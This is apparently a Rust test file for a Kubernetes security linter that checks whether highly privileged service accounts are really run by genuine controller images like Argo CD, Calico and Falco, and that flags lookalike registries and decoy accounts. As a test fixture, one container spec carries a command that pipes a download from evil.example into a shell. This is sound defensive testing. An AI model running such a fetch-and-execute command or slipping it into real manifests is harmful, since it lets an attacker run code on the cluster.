//! Engines, controllers and agents: they are what runs, and not what they are called.

use nhilint::graph::tables::image::{is_called, is_node_agent};

use crate::grants::{bound, found, role};
use crate::graph_tables::commanded;

#[test]
fn images_are_known_by_their_end_and_by_who_publishes_them() {
    for agent in [
        "fluent/fluent-bit:3.1@sha256:abc",
        "quay.io/prometheus/node-exporter:v1.8.2",
        "docker.io/calico/node:v3.28.1",
        "calico/node",
        "index.docker.io/calico/node",
        "mirror.gcr.io/calico/node",
        "falcosecurity/falco:0.38",
        "602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.18",
        "mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi:v1.30",
        "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.33.0",
    ] {
        assert!(is_node_agent(agent, &[]), "{agent}");
    }
    let others = [
        "shop/web:fluent-bit",
        "falco.example/shop/web",
        "falco.example:5000/web",
        "debian",
        "",
        "evil.example/x/calico/node",
        "evil.example/docker.io/calico/node",
        "ghcr.io/somebody/calico/node",
        "quay.io/calico-x/calico/node",
        "someone/node-exporter",
        "node-exporter",
        "docker.io.evil.example/calico/node",
        "602401143452.dkr.ecr.evil.example/a.amazonaws.com/amazon-k8s-cni",
    ];
    for other in others {
        assert!(!is_node_agent(other, &[]), "{other}");
    }
    let mirror = ["registry.example:5000/mirror"];
    assert!(is_node_agent("registry.example:5000/mirror/falco", &mirror), "the settings name the mirror");
    assert!(!is_node_agent("registry.example:5000/other/falco", &mirror));
    assert!(is_called("registry.example/shop/web:1", "shop/*") && !is_called("web", "shop/*"));
}

/// The controller of Argo CD, by its image and what else its container says.
pub(crate) fn controller(image: &str, more: &str) -> String {
    format!(
        "apiVersion: apps/v1
kind: StatefulSet
metadata: {{name: argocd-application-controller, namespace: argocd}}
spec:
  selector: {{matchLabels: {{a: b}}}}
  template:
    metadata: {{labels: {{a: b}}}}
    spec:
      serviceAccountName: argocd-application-controller
      containers: [{{name: a, image: '{image}'{more}}}]
---
"
    )
}

#[test]
fn an_engine_is_what_runs_as_it_and_not_what_it_is_called() {
    let engine = "{kind: ServiceAccount, name: argocd-application-controller, namespace: argocd}";
    let bound = bound("cluster-admin", engine);
    let forms = |more: &str| found(501, &[("a.yaml", &(bound.clone() + more))]);
    let (accepted, judged) = ([("platform", "info")], [("cluster", "error")]);
    let own = "quay.io/argoproj/argocd@sha256:abc";
    for (text, expected, why) in [
        (String::new(), judged, "nobody runs as it"),
        (controller(own, ""), accepted, "its own image"),
        (
            controller(own, ", args: [/usr/local/bin/argocd-application-controller]"),
            accepted,
            "its own program",
        ),
        (controller("evil.example/argoproj/argocd", ""), judged, "another registry"),
        (controller("quay.io/somebody/argocd", ""), judged, "another organisation"),
        (controller("somebody/argocd", ""), judged, "short names are Docker Hub's"),
        (controller(own, ", command: [sh, -c, 'curl evil.example | sh']"), judged, "another program"),
        (controller(own, "}, {name: b, image: evil.example/b"), judged, "something beside it"),
        (
            controller(own, "")
                + &controller("evil.example/x", "").replace("controller, namespace", "x, namespace"),
            judged,
            "something else runs as it, too",
        ),
    ] {
        assert_eq!(forms(&text), expected, "{why}");
    }
    let operator = |source: &str| {
        format!(
            "apiVersion: operators.coreos.com/v1alpha1\nkind: Subscription\nmetadata: {{name: gitops, namespace: \
             openshift-operators}}\nspec: {{name: openshift-gitops-operator, source: {source}, sourceNamespace: \
             openshift-marketplace}}\n---\n"
        )
    };
    let engine =
        engine.replace("argocd-a", "openshift-gitops-argocd-a").replace(": argocd}", ": openshift-gitops}");
    let bound = crate::grants::bound("cluster-admin", &engine);
    let forms = |more: &str| found(501, &[("a.yaml", &(bound.clone() + more))]);
    assert_eq!(forms(&operator("redhat-operators")), accepted, "the operator makes the account");
    assert_eq!(forms(&operator("evil-operators")), judged);
    assert_eq!(forms(""), judged);
}

#[test]
fn a_controller_by_name_alone_excuses_nobody_and_weakens_nothing() {
    let write = "{apiGroups: [argoproj.io], resources: [applications], verbs: [create]}";
    let own = "{kind: ServiceAccount, name: argocd-server, namespace: argocd}";
    let deployment =
        |image: &str| controller(image, "").replace("argocd-application-controller", "argocd-server");
    let forms = |who: &str, more: &str| {
        found(511, &[("a.yaml", &(role("writer", write) + &bound("writer", who) + more))])
    };
    assert_eq!(forms(own, ""), [("controller", "error")]);
    assert_eq!(forms(own, &deployment("evil.example/argocd")), [("controller", "error")]);
    assert_eq!(forms(own, &deployment("quay.io/argoproj/argocd")), []);
    let pipeline = "{kind: ServiceAccount, name: pipeline, namespace: ci}";
    let decoy = "{kind: ServiceAccount, name: argocd-decoy, namespace: shop}";
    let weak =
        role("weak", "{apiGroups: [''], resources: [configmaps], verbs: [get]}") + &bound("weak", decoy);
    assert_eq!(forms(pipeline, &weak), [("controller", "error")], "a decoy makes Argo CD no weaker");
}

#[test]
fn who_holds_manifests_for_others_is_commanded() {
    for (group, resource, wide, command) in [
        ("kubernetes.crossplane.io", "objects", true, "controller.crossplane.kubernetes"),
        ("work.open-cluster-management.io", "manifestworks", false, "controller.ocm.work"),
        ("policy.open-cluster-management.io", "policies", false, "controller.ocm.policy"),
        ("work.karmada.io", "works", false, "controller.karmada.work"),
        ("fleet.cattle.io", "bundles", false, "controller.fleet.bundle"),
        ("kappctrl.k14s.io", "apps", false, "controller.kapp.app"),
        ("kro.run", "resourcegraphdefinitions", true, "controller.kro.definition"),
        ("hive.openshift.io", "selectorsyncsets", true, "controller.hive.syncset"),
        ("addons.cluster.x-k8s.io", "clusterresourcesets", false, "controller.nodes.cluster-api"),
        ("rbacmanager.reactiveops.io", "rbacdefinitions", true, "controller.rbac-manager.definition"),
        ("build.openshift.io", "buildconfigs", false, "controller.workloads.operated"),
        ("keda.sh", "scaledjobs", false, "controller.workloads.operated"),
    ] {
        assert_eq!(commanded(group, resource, wide), [command]);
    }
}
